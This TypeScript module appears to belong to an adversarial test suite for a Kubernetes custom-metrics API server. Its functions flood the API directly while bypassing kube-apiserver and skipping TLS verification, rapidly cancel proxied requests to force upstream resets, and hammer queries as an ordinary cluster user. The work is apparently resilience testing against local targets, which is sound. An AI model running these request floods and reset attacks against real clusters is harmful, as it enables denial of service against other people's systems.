import { type ClientHttp2Session, connect, constants, type OutgoingHttpHeaders } from 'node:http2';
import { connect as connectSocket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { type Credential, createKubeClient } from '@activescale/devkit';
import type { ApiTarget, Assault } from '../lib/assault.ts';

/** The attacker's pod. */
export const ROGUE = '127.0.0.66';

export const API = '/apis/custom.metrics.k8s.io/v1beta2';
/** What the honest HPA asks. */
export const HONEST_QUERY = `${API}/namespaces/shop/pods/*/active_requests`;
/** What the viewer may ask. */
export const VIEWER_QUERY = `${API}/namespaces/mine/pods/*/active_requests`;

interface DirectOptions {
  readonly from: string;
  /** Requests in flight at a time. */
  readonly atOnce: number;
  /** Header fields of the nth request. */
  readonly request: (n: number) => OutgoingHttpHeaders;
  /** Sent with each, until api closes the request. */
  readonly body?: Buffer;
}

/** Queries api directly, without kube-apiserver, over one connection after another. */
export async function askDirectly(assault: Assault<ApiTarget>, options: DirectOptions): Promise<void> {
  const { target, signal } = assault;
  const { from, atOnce } = options;
  let asked = 0;
  while (!signal.aborted) {
    const tcp = connectSocket({ host: '127.0.0.1', port: target.securePort, localAddress: from });
    tcp.on('error', () => {});
    const socket = connectTls({ socket: tcp, ALPNProtocols: ['h2'], rejectUnauthorized: false });
    const session = connect('https://127.0.0.1', { createConnection: () => socket });
    session.on('error', () => {});
    const end = () => session.destroy();
    signal.addEventListener('abort', end, { once: true });
    const worker = async () => {
      while (!signal.aborted && !session.destroyed && !session.closed) {
        asked += 1;
        await askOnce(session, asked, options, assault);
      }
    };
    await Promise.all(Array.from({ length: atOnce }, worker));
    signal.removeEventListener('abort', end);
    session.destroy();
    await sleep(5);
  }
}

/** How long an attacker waits for an answer, in ms. */
const PATIENCE_MS = 2_000;

function askOnce(
  session: ClientHttp2Session,
  number: number,
  { request, body }: DirectOptions,
  { got }: Assault<ApiTarget>,
): Promise<void> {
  return new Promise((resolve) => {
    let answer = 'connection closed';
    const stream = session.request(request(number), { endStream: body === undefined });
    const late = setTimeout(() => stream.close(), PATIENCE_MS);
    stream.on('error', () => {}); // its close follows
    stream.on('response', (fields) => {
      answer = String(fields[':status']);
    });
    stream.on('close', () => {
      clearTimeout(late);
      got(answer);
      resolve();
    });
    stream.resume();
    const pour = () => {
      while (body !== undefined && !stream.destroyed && stream.write(body));
    };
    stream.on('drain', pour);
    pour();
  });
}

/** Enough for kube-apiserver to have asked api, and too little for the answer; more at a time are too much for the former. */
const PATIENCE_BEFORE_LEAVING_MS = 6;

/** Asks by way of kube-apiserver, and leaves before it is answered: kube-apiserver then resets its request to api. */
export async function leaveCluster(
  { target, signal, got }: Assault<ApiTarget>,
  { user, atOnce, path }: { readonly user: Credential; readonly atOnce: number; readonly path: string },
): Promise<void> {
  const { host, port, ca } = target.kube;
  const worker = async () => {
    while (!signal.aborted) {
      const session = connect(`https://${host}:${port}`, { ca, ...user });
      session.on('error', () => {});
      while (!signal.aborted && !session.destroyed && !session.closed) {
        const stream = session.request({ ':path': path });
        stream.on('error', () => {});
        await sleep(PATIENCE_BEFORE_LEAVING_MS);
        stream.close(constants.NGHTTP2_CANCEL);
        got('cancelled');
      }
      session.destroy();
    }
  };
  await Promise.all(Array.from({ length: atOnce }, worker));
}

interface ClusterOptions {
  readonly user: Credential;
  readonly atOnce: number;
  /** Path, and header fields, of the nth request. */
  readonly request: (n: number) => readonly [path: string, headers?: OutgoingHttpHeaders];
}

/** Asks by way of kube-apiserver, as any user of the cluster can. */
export async function askCluster(
  { target, signal, got }: Assault<ApiTarget>,
  { user, atOnce, request }: ClusterOptions,
): Promise<void> {
  using client = createKubeClient(target.kube, user);
  let asked = 0;
  const worker = async () => {
    while (!signal.aborted) {
      asked += 1;
      const [path, headers = {}] = request(asked);
      try {
        const { status } = await client.request(path, { headers, timeout: PATIENCE_MS });
        got(String(status));
      } catch (error) {
        got((error as NodeJS.ErrnoException).code ?? 'no answer');
      }
    }
  };
  await Promise.all(Array.from({ length: atOnce }, worker));
}
